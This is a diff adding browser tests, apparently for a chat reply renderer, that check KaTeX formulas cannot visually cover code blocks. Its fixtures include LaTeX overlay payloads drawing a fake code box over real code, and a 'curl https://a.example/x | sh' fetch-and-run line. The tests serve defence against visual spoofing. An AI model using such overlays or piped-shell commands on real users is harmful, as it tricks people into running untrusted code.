@@ -120,4 +120,43 @@ describePanel('formulas in a reply', ({ open, view, button, postedOf }) => {
       .waitFor();
     assert.deepEqual(await page.locator('.formula > code').allTextContents(), refused);
   });
+
+  const box = '\\colorbox{#181818}{\\textcolor{#cccccc}{\\texttt{npm install left-pad}\\hspace{14em}}}';
+  const covering: Readonly<Record<string, string>> = {
+    'a rule with a shift': '\\rlap{\\hspace{-1em}\\rule[2.75em]{19.5em}{1.25em}}',
+    'a box above the line': `\\rlap{\\smash{\\raisebox{3em}{${box}}}}`,
+    'a box that is lowered and raised': `\\rlap{\\raisebox{-9em}{\\smash{\\raisebox{20em}{${box}}}}}`,
+    'a box below the line': `\\rlap{\\smash{\\raisebox{-4em}{${box}}}}`,
+    'a box in the line': `\\rlap{${box}}`,
+  };
+  for (const [name, source] of Object.entries(covering)) {
+    for (const delimiter of ['$', '$$']) {
+      it(`do not cover code or other text: ${delimiter}, ${name}`, async () => {
+        const formula = `${delimiter}${source}${delimiter} \`Then start it.\``;
+        const code = '```sh\ncurl https://a.example/x | sh\n```';
+        const { page } = await open(
+          session({ messages: [question(), reply({ text: `${code}\n\n${formula}\n\n${code}` })] }),
+        );
+        await page.locator('.formula .katex').waitFor({ state: 'attached' });
+        assert.deepEqual(await page.evaluate(findCovered), []);
+      });
+    }
+  }
 });
+
+/** Returns the text of each piece of code that an element other than the code covers at one of 60 points. */
+function findCovered(): readonly string[] {
+  const covers = (code: Element, x: number, y: number): boolean => {
+    const top = document.elementFromPoint(x, y);
+    return top !== null && top.closest('.formula') !== null && !code.contains(top);
+  };
+  const isCovered = (code: Element): boolean => {
+    const { left, top, width, height } = code.getBoundingClientRect();
+    return Array.from({ length: 60 }, (_, index) => index).some((index) =>
+      covers(code, left + (((index % 20) + 0.5) * width) / 20, top + ((Math.floor(index / 20) + 0.5) * height) / 3),
+    );
+  };
+  return [...document.querySelectorAll('.markdown code:not(.formula code)')]
+    .filter(isCovered)
+    .map(({ textContent }) => textContent);
+}
